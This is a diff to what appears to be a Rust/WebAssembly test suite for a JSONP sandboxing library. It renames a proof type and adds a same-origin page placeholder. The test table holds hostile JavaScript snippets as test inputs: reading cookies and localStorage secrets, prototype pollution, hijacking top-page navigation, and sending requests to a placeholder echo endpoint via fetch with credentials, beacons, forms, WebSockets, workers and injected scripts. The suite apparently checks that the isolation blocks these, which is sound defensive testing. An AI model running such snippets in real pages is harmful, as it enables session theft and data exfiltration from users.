@@ -8,10 +8,12 @@ use futures_util::future::join;
 use pagewire::jsonp;
 use wasm_bindgen_test::wasm_bindgen_test;
 
-use crate::conformance_engine::{Engine, encoded, engine};
+use crate::conformance_engine::{Engine, encoded, engine, own_origin};
 use crate::jsonp::script;
 use crate::leaks::census;
 use crate::shared::{Wire, evaluate, sleep, within};
+
+use Proof::{Loot, Page, Sent};
 
 /// How an attack is known to have succeeded.
 enum Proof {
@@ -20,7 +22,7 @@ enum Proof {
     /// This is true in the page.
     Page(&'static str),
     /// The server was asked for `/echo` or `/ws/echo`.
-    Wire,
+    Sent,
 }
 
 /// What the page has that is worth attacking.
@@ -72,15 +74,19 @@ fn in_frame(attack: &str) -> String {
 
 async fn succeeds(proof: &Proof, wire: &Wire, answer: Option<String>) -> bool {
     match proof {
-        Proof::Loot => answer.is_some_and(|answer| answer.contains("loot")),
-        Proof::Page(expression) => evaluate(&format!("return {expression}")).await.unwrap().is_truthy(),
-        Proof::Wire => wire.entries().await.iter().any(|entry| entry.path.ends_with("/echo")),
+        Loot => answer.is_some_and(|answer| answer.contains("loot")),
+        Page(expression) => evaluate(&format!("return {expression}")).await.unwrap().is_truthy(),
+        Sent => wire.entries().await.iter().any(|entry| entry.path.ends_with("/echo")),
     }
 }
 
 async fn attempt(attack: &str, proof: &Proof, isolated: bool) -> bool {
     let wire = Wire::new().await;
-    let attack = attack.replace("{echo}", &wire.url("/echo")).replace("{ws}", &wire.ws("/ws/echo"));
+    let page = own_origin().await + "/?page-token";
+    let attack = attack
+        .replace("{page}", &page)
+        .replace("{echo}", &wire.url("/echo"))
+        .replace("{ws}", &wire.ws("/ws/echo"));
     evaluate(STAGE).await.unwrap();
     let answer = if isolated {
         jsonp::get(script(&wire, &in_frame(&attack))).await
@@ -117,8 +123,6 @@ macro_rules! attacks {
     )*};
 }
 
-use Proof::{Loot, Page, Wire as OnWire};
-
 attacks! {
     reading_the_cookies: Loot, "loot = document.cookie";
     reading_local_storage: Loot, "loot = localStorage.secret";
@@ -134,22 +138,22 @@ attacks! {
     polluting_the_prototype_of_arrays: Page("[].planted"), "Array.prototype.planted = true; parent.Array.prototype.planted = true";
     running_a_getter_of_its_own_in_the_page: Page("window.planted"), "JSON.stringify({ get a() { window.planted = true } })";
     speaking_on_the_page_s_channel: Page("window.called === 'planted'"), "new BroadcastChannel('app').postMessage('planted')";
-    navigating_the_page: Page("location.hash === '#planted'"), "top.location.href = (parent === self ? '' : 'http://127.0.0.1/') + '#planted'";
-    navigating_the_page_by_replacement: Page("location.hash === '#planted'"), "parent.location.replace('#planted')";
+    navigating_the_page: Page("location.hash === '#planted'"), "top.location.href = '{page}#planted'";
+    navigating_the_page_by_replacement: Page("location.hash === '#planted'"), "parent.location.replace('{page}#planted')";
     rewriting_the_page_s_history: Page("history.state === 'planted'"), "parent.history.pushState('planted', '')";
-    navigating_a_frame_of_the_page: OnWire, "open('{echo}', 'victim')";
-    posting_a_form: OnWire, "const form = document.createElement('form'); form.className = 'planted'; form.method = 'post'; form.action = '{echo}'; form.target = 'victim'; document.documentElement.append(form); form.submit()";
-    asking_by_fetch: OnWire, "fetch('{echo}', { credentials: 'include' }).catch(() => {})";
-    asking_by_xml_http_request: OnWire, "const xhr = new XMLHttpRequest; xhr.open('POST', '{echo}'); xhr.send('x')";
-    asking_by_an_image: OnWire, "new Image().src = '{echo}'";
-    asking_by_a_beacon: OnWire, "navigator.sendBeacon('{echo}', 'x')";
-    asking_by_a_style_sheet: OnWire, "const link = document.createElement('link'); link.className = 'planted'; link.rel = 'stylesheet'; link.href = '{echo}'; document.documentElement.append(link)";
-    asking_by_a_web_socket: OnWire, "new WebSocket('{ws}')";
-    asking_by_an_event_source: OnWire, "new EventSource('{echo}').onerror = (event) => event.target.close()";
-    importing_a_module_of_another_server: OnWire, "import('{echo}'.replace('127.0.0.1', 'localhost')).catch(() => {})";
-    loading_a_script_of_another_server: OnWire, "const more = document.createElement('script'); more.className = 'planted'; more.type = 'module'; more.src = '{echo}'.replace('127.0.0.1', 'localhost'); document.documentElement.append(more)";
-    opening_a_frame_of_its_own: OnWire, "const frame = document.createElement('iframe'); frame.className = 'planted'; frame.src = '{echo}'; document.documentElement.append(frame)";
-    starting_a_worker: OnWire, "new Worker(URL.createObjectURL(new Blob([`fetch('{echo}').catch(() => {})`])))";
+    navigating_a_frame_of_the_page: Sent, "open('{echo}', 'victim')";
+    posting_a_form: Sent, "const form = document.createElement('form'); form.className = 'planted'; form.method = 'post'; form.action = '{echo}'; form.target = 'victim'; document.documentElement.append(form); form.submit()";
+    asking_by_fetch: Sent, "fetch('{echo}', { credentials: 'include' }).catch(() => {})";
+    asking_by_xml_http_request: Sent, "const xhr = new XMLHttpRequest; xhr.open('POST', '{echo}'); xhr.send('x')";
+    asking_by_an_image: Sent, "new Image().src = '{echo}'";
+    asking_by_a_beacon: Sent, "navigator.sendBeacon('{echo}', 'x')";
+    asking_by_a_style_sheet: Sent, "const link = document.createElement('link'); link.className = 'planted'; link.rel = 'stylesheet'; link.href = '{echo}'; document.documentElement.append(link)";
+    asking_by_a_web_socket: Sent, "new WebSocket('{ws}')";
+    asking_by_an_event_source: Sent, "new EventSource('{echo}').onerror = (event) => event.target.close()";
+    importing_a_module_of_another_server: Sent, "import('{echo}'.replace('127.0.0.1', 'localhost')).catch(() => {})";
+    loading_a_script_of_another_server: Sent, "const more = document.createElement('script'); more.className = 'planted'; more.type = 'module'; more.src = '{echo}'.replace('127.0.0.1', 'localhost'); document.documentElement.append(more)";
+    opening_a_frame_of_its_own: Sent, "const frame = document.createElement('iframe'); frame.className = 'planted'; frame.src = '{echo}'; document.documentElement.append(frame)";
+    starting_a_worker: Sent, "new Worker(URL.createObjectURL(new Blob([`fetch('{echo}').catch(() => {})`])))";
 }
 
 // What needs a stage of its own
